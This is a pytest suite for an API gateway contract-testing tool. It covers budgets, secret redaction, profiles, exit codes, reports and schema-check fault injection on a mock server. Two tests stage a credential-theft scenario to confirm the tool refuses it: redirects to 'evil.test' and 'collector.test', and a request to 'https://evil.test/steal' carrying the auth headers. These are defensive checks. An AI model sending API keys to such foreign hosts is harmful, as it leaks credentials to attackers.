"""The run as a whole: budgets, redaction, profiles, exit codes, reports, and the schema layer on the embedded mock."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from pathlib import Path

import httpx
import pytest
from click.testing import CliRunner

from contract_tests.budget import Budget, BudgetExhausted
from contract_tests.cli import main
from contract_tests.profiles import PROFILES
from contract_tests.reporting import report_files
from contract_tests.results import Layer, Outcome
from contract_tests.runner import run
from contract_tests.schema_layer import CHECKS as SCHEMA_CHECKS
from contract_tests.schema_layer import PREFIX
from contract_tests.session import Options, UsageError
from contract_tests.target import ForeignHostRefused, open_target
from mockserver.app import create_app
from mockserver.config import MockConfig
from tests.faults import FAULTS, FaultMiddleware, missing
from tests.gateways import ADMIN_KEY, Answer, ReferenceGateway, mock_transport

LIVE_URL = "https://gateway.example/v1"


class Counting:
    def __init__(self, handler):
        self.handler = handler
        self.calls = 0

    def __call__(self, call):
        self.calls += 1
        return self.handler(call)


def report_texts(directory: Path) -> str:
    return "".join(path.read_text() for path in sorted(directory.iterdir()))


def test_max_requests_is_a_hard_limit_at_the_target(tmp_path):
    gateway = Counting(ReferenceGateway())
    result = run(Options(base_url=LIVE_URL, api_key=ADMIN_KEY, transport=mock_transport(gateway), max_requests=50,
                         allow_writes=True), *report_files(tmp_path))
    assert gateway.calls <= 50
    assert result.requests == gateway.calls
    assert "request budget reached (50 requests)" in result.stopped
    assert "Stopped early: request budget reached" in (tmp_path / "report.md").read_text()


def test_max_spend_stops_the_run():
    result = run(Options(base_url=LIVE_URL, api_key=ADMIN_KEY, transport=mock_transport(ReferenceGateway()),
                         max_spend=1e-9, include=("sse.*", "usage.*")))
    assert result.stopped.startswith("spend budget reached")
    assert any(r.outcome is Outcome.SKIP and "spend budget" in r.skip_reason for r in result.results)


def test_no_secret_in_any_report_or_log(tmp_path, capsys):
    """The run's key and every key created during the run appear nowhere the suite writes."""
    gateway = ReferenceGateway()
    options = Options(base_url="http://127.0.0.1:9/v1", api_key=ADMIN_KEY, transport=mock_transport(
        FAULTS["keys.secret_only_on_create"](gateway)), profile="quick")
    result = run(options, *report_files(tmp_path, junit=tmp_path / "ci.xml"))
    created = [k["key"] for k in gateway.keys.values() if k["id"] != "admin"]
    assert created, "the run created keys"
    assert result.failed, "the faulty gateway leaks secrets into reads, so reports quote them"
    written = report_texts(tmp_path) + capsys.readouterr().err
    for secret in [ADMIN_KEY, *created]:
        assert secret not in written
    assert "[REDACTED]" in written


def test_live_profile_is_the_default_off_loopback_and_writes_nothing(tmp_path):
    gateway = Counting(ReferenceGateway())
    result = run(Options(base_url=LIVE_URL, api_key=ADMIN_KEY, transport=mock_transport(gateway)), *report_files(tmp_path))
    assert result.profile == "live"
    assert len(gateway.handler.keys) == 1  # only the admin key: nothing created
    schema_operations = {r.operation for r in result.of_layer(Layer.SCHEMA)}
    assert schema_operations and all(op.startswith("GET ") for op in schema_operations)
    skipped = {r.check for r in result.results if r.outcome is Outcome.SKIP}
    assert "keys.deleted_key_rejected" in skipped
    assert result.requests <= 200


def test_every_check_passes_on_the_reference_gateway_as_a_run(tmp_path):
    result = run(Options(base_url="http://127.0.0.1:9/v1", api_key=ADMIN_KEY,
                         transport=mock_transport(ReferenceGateway()), exclude=("schema:*",)), *report_files(tmp_path))
    assert result.exit_code == 0, [(r.check, r.findings) for r in result.failed]
    assert {p.name for p in tmp_path.iterdir()} == {"report.json", "report.md", "report.html", "junit.xml", "run.log"}


def test_retry_after_is_honoured():
    answers = iter([httpx.Response(429, headers={"Retry-After": "2"}), httpx.Response(200, json={"data": []})])
    slept = []
    with open_target("http://gateway.test/v1", "k" * 8, inner=httpx.MockTransport(lambda r: next(answers)),
                     sleep=slept.append) as target:
        assert target.client.get("/models").status_code == 200
    assert slept == [2.0] and target.budget.requests == 2


def test_no_request_leaves_for_another_host():
    with open_target("https://gateway.test/v1", "k" * 8,
                     inner=httpx.MockTransport(lambda r: httpx.Response(302, headers={"Location": "https://evil.test/"}))
                     ) as target:
        response = target.client.get("/models")
        assert response.status_code == 302  # not followed
        with pytest.raises(ForeignHostRefused):
            target.client.get("https://evil.test/steal", headers=target.auth_headers())


def test_budget_refuses_past_the_limit():
    budget = Budget(max_requests=1)
    budget.take_request()
    with pytest.raises(BudgetExhausted):
        budget.take_request()


def test_unreachable_target_is_one_line_and_exit_2(tmp_path):
    result = CliRunner().invoke(main, ["run", "--base-url", "http://127.0.0.1:9/v1", "--api-key", "secret-key-1",
                                       "--report-dir", str(tmp_path)])
    assert result.exit_code == 2
    assert result.output.startswith("contract-tests: error: cannot reach http://127.0.0.1:9/v1")
    assert len(result.output.strip().splitlines()) == 1 and "secret-key-1" not in result.output


def test_refused_key_is_one_line_and_exit_2(serve, tmp_path):
    mock = serve(api_key="the-right-key")
    result = CliRunner().invoke(main, ["run", "--base-url", mock.url, "--api-key", "a-wrong-key",
                                       "--report-dir", str(tmp_path)])
    assert result.exit_code == 2
    assert result.output.strip() == "contract-tests: error: the target refused the API key: GET /models answered 401"


def test_bad_options_exit_2():
    with pytest.raises(UsageError):
        run(Options(base_url="ftp://x", api_key="k"))
    assert CliRunner().invoke(main, ["run", "--profile", "nope"]).exit_code == 2


def test_cli_runs_the_embedded_mock_and_writes_every_report(tmp_path):
    result = CliRunner().invoke(main, ["run", "--report-dir", str(tmp_path), "--junit", str(tmp_path / "ci" / "j.xml")])
    assert result.exit_code == 0, result.output
    assert "Traceback" not in result.output
    data = json.loads((tmp_path / "report.json").read_text())
    assert data["format_version"] == 2
    schema = [r for r in data["results"] if r["layer"] == "schema"]
    assert {r["layer"] for r in data["results"]} == {"schema", "semantic"}
    assert {r["check"] for r in schema} >= {"schema:not_a_server_error", "schema:response_schema_conformance",
                                             "schema:negative_data_rejection", "schema:ignored_auth"}
    assert {r["check"] for r in data["results"] if r["outcome"] != "pass"} == set()
    assert (tmp_path / "ci" / "j.xml").read_text().startswith("<?xml")
    assert re.search(r"<html[ >].*Conformance report", (tmp_path / "report.html").read_text(), re.S)


def test_base_url_run_against_the_mock_on_a_port(serve, tmp_path):
    mock = serve(api_key="served-key-123")
    result = run(Options(base_url=mock.url, api_key="served-key-123"), *report_files(tmp_path))
    assert result.profile == "quick"
    assert result.failed == [] and result.exit_code == 0
    assert "served-key-123" not in report_texts(tmp_path)


# The schema layer: the embedded mock, wrapped by ASGI middleware that breaks one thing, fails that Schemathesis check.
def _answer(when, make):
    return lambda inner: lambda call: (lambda answer: make(call, answer) if when(call, answer) else answer)(inner(call))


def _is(method, path, status=None):
    return lambda call, answer: call.method == method and call.path == path and status in (None, answer.status)


def _error(status, **headers):
    return lambda call, answer: Answer.json({"error": {"message": "x", "type": "x", "param": None, "code": None}},
                                            status, **headers)


EMBEDDINGS = {"object": "list", "data": [], "model": "m"}
SCHEMA_FAULTS = {
    "schema:not_a_server_error": _answer(_is("GET", "/models"), _error(500)),
    "schema:status_code_conformance": _answer(_is("GET", "/models"), _error(418)),
    "schema:content_type_conformance": _answer(_is("GET", "/models", 200),
                                               lambda c, a: Answer(200, a.body, {"content-type": "text/plain"})),
    "schema:response_schema_conformance": FAULTS["models.non_negative_prices"],
    "schema:response_headers_conformance": _answer(_is("GET", "/models"), _error(429, **{"retry-after": "soon"})),
    "schema:negative_data_rejection": _answer(_is("POST", "/embeddings", 400), lambda c, a: Answer.json(EMBEDDINGS)),
    # Not chat or embeddings: their cross-field 400s are allowed (contract_tests/data/schemathesis.toml).
    "schema:positive_data_acceptance": _answer(_is("POST", "/api-keys", 200), _error(400)),
    "schema:ignored_auth": FAULTS["errors.auth_required"],
    "schema:missing_required_header": FAULTS["errors.auth_required"],
    "schema:use_after_free": _answer(lambda c, a: c.method == "GET" and c.path.startswith("/api-keys/") and a.status == 404,
                                     lambda c, a: Answer.json({"id": c.path.split("/")[2], "name": "", "labels": [],
                                                               "limit": None, "created_at": "2026-01-01T00:00:00Z"})),
    "schema:ensure_resource_availability": _answer(lambda c, a: c.method == "GET" and c.path.startswith("/api-keys/"),
                                                   _error(404)),
    "schema:unsupported_method": _answer(lambda c, a: a.status == 405, _error(404)),
    "schema:allow_header_conformance": _answer(lambda c, a: c.method == "OPTIONS",
                                               lambda c, a: Answer(405, a.body, {**a.headers, "allow": "GET, PUT"})),
}


def test_every_schema_check_has_a_fault():
    assert sorted(SCHEMA_FAULTS) == sorted(PREFIX + name for name in SCHEMA_CHECKS)


FOUND_BY_COVERAGE = ("schema:allow_header_conformance", "schema:missing_required_header", "schema:unsupported_method")


@pytest.mark.parametrize("check", sorted(SCHEMA_FAULTS))
def test_schema_check_fails_on_the_mock_with_one_fault(check, monkeypatch):
    if check in ("schema:ensure_resource_availability", "schema:use_after_free"):
        # Found by the stateful phase: enough steps that a create, delete, read sequence of keys is always among
        # them, with the governance operations (access lists) sharing the steps.
        monkeypatch.setitem(PROFILES, "quick", replace(PROFILES["quick"], phases=("stateful",), stateful_steps=40))
    else:  # the phase that sends what the fault answers wrongly: undocumented methods and missing headers come from
        # Schemathesis's coverage phase, the rest from examples and fuzzing
        phases = ("coverage",) if check in FOUND_BY_COVERAGE else ("examples", "fuzzing")
        monkeypatch.setitem(PROFILES, "quick", replace(PROFILES["quick"], max_examples=2, phases=phases))
    app = FaultMiddleware(create_app(MockConfig()), SCHEMA_FAULTS[check])
    # Schemathesis sends undocumented methods only while its unsupported_method check is on.
    result = run(Options(app=app, include=(check, "schema:unsupported_method")))
    assert check in {r.check for r in result.failed}


def test_schemathesis_leaves_part_of_the_request_budget_to_the_semantic_layer():
    result = run(Options(base_url=LIVE_URL, api_key=ADMIN_KEY, transport=mock_transport(ReferenceGateway()),
                         max_requests=60))
    assert result.requests <= 60
    assert any("the schema layer stopped at its part" in note for note in result.notes)
    assert any(r.outcome is Outcome.PASS for r in result.of_layer(Layer.SEMANTIC))


def test_overlay_only_schema_finding_is_an_upstream_gap(monkeypatch):
    monkeypatch.setitem(PROFILES, "quick", replace(PROFILES["quick"], max_examples=2))
    app = FaultMiddleware(create_app(MockConfig()), FAULTS["models.non_negative_prices"])
    result = run(Options(app=app, include=("schema:response_schema_conformance",)))
    finding = result.cell("GET /models", "schema:response_schema_conformance").findings[0]
    assert finding.origin.value == "upstream-spec gap" and "overlay" in finding.origin_note


def test_drift_in_the_management_api_is_reported_not_a_crash(tmp_path):
    result = run(Options(base_url=LIVE_URL, api_key=ADMIN_KEY, transport=mock_transport(missing("/api-keys")(ReferenceGateway())),
                         allow_writes=True, exclude=("schema:*",)), *report_files(tmp_path))
    messages = [f.message for r in result.failed for f in r.findings]
    assert "documented operation missing on target: POST /api-keys answered 404" in messages
    assert "documented operation missing on target" in (tmp_path / "report.md").read_text()


def test_gateway_rules_allow_cross_field_400s_on_inference_only():
    from contract_tests.schema_layer import allowed_statuses, status_matches

    assert status_matches(400, allowed_statuses("positive_data_acceptance", "createChatCompletion"))
    assert status_matches(400, allowed_statuses("positive_data_acceptance", "createEmbedding"))
    assert not allowed_statuses("positive_data_acceptance", "createApiKey")
    assert not status_matches(422, allowed_statuses("positive_data_acceptance", "createChatCompletion"))
    assert status_matches(503, ["5xx"]) and not status_matches(404, ["5xx", "400"])


def test_plain_http_off_loopback_is_refused_unless_insecure():
    gateway = Counting(ReferenceGateway())
    with pytest.raises(UsageError, match="plain http"):
        run(Options(base_url="http://gateway.example/v1", api_key=ADMIN_KEY, transport=mock_transport(gateway)))
    assert gateway.calls == 0  # refused before anything was sent
    result = CliRunner().invoke(main, ["run", "--base-url", "http://gateway.example/v1", "--api-key", ADMIN_KEY])
    assert result.exit_code == 2 and "--insecure" in result.output and ADMIN_KEY not in result.output
    allowed = run(Options(base_url="http://gateway.example/v1", api_key=ADMIN_KEY, transport=mock_transport(gateway),
                          insecure=True, include=("models.*",)))
    assert gateway.calls > 0 and allowed.profile == "live"


def test_a_redirect_to_another_host_is_not_followed_with_the_key():
    seen: list[httpx.Request] = []

    def gateway(request: httpx.Request) -> httpx.Response:
        seen.append(request)
        return httpx.Response(307, headers={"Location": "https://collector.test/v1/models"})

    result = run(Options(base_url="https://gateway.test/v1", api_key=ADMIN_KEY, transport=httpx.MockTransport(gateway),
                         max_requests=40))
    assert seen and {r.url.host for r in seen} == {"gateway.test"}  # every 307 answered, none followed
    assert result.exit_code == 1
